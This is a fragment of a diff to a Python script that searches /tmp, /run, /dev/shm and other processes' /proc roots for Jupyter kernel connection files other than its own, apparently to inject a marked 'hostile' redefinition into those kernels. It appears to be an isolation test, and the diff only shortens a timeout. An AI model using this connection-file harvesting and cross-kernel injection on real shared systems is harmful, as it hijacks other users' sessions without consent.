@@ -12,7 +12,7 @@ from jupyter_client import BlockingKernelClient
 
 CHANGE = "square = lambda x: 'hostile'; print('hostile was here')"
 own = get_ipython().config.IPKernelApp.connection_file
-end = time.time() + 5
+end = time.time() + 3
 while time.time() < end:
     places = ("/tmp/**/*.json", "/run/**/*.json", "/proc/[0-9]*/root/run/kernel/*.json", "/dev/shm/**/*.json")
     for path in {found for place in places for found in glob.glob(place, recursive=True)} - {own}:
